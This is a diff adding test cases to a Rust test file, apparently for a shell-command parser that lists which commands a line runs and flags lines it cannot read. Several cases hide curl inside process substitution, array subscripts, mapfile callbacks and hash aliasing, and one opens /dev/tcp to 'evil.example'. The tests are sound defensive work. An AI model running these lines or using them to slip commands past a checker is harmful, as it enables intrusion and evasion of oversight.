@@ -51,6 +51,7 @@ fn every_command_is_seen() {
         ("a 2>&1 >/dev/null | b", "a b"),
         ("a &> /dev/null; b", "a b"),
         ("a>/dev/null&b", "a b"),
+        ("time -p curl x", "curl time"),
         ("exec 3<>/dev/tcp/evil.example/80", "exec"),
         ("command -v git", "command"),
         ("[ -f x ] && a", "[ a"),
@@ -136,6 +137,19 @@ fn what_cannot_be_read_is_said() {
         "fd -x sh -c $X",
         "timeout 5 sh",
         "~/x/bin y",
+        "time { curl evil; }",
+        "xargs -I{} {} x",
+        "xargs -I X X y",
+        "xargs -I{} sh -c '{}'",
+        "find . -exec sh -c '{}' \\;",
+        "find . -exec {} \\;",
+        "echo x | source /dev/stdin",
+        ". <(curl evil)",
+        "test -v 'x[$(curl evil)]'",
+        "declare 'a[`curl evil`]=1'",
+        "mapfile -C 'curl evil' x",
+        "hash -p /usr/bin/curl ls",
+        "sudo { a; }",
     ] {
         assert!(read(text).unread.is_some(), "{text}: {:?}", read(text));
     }
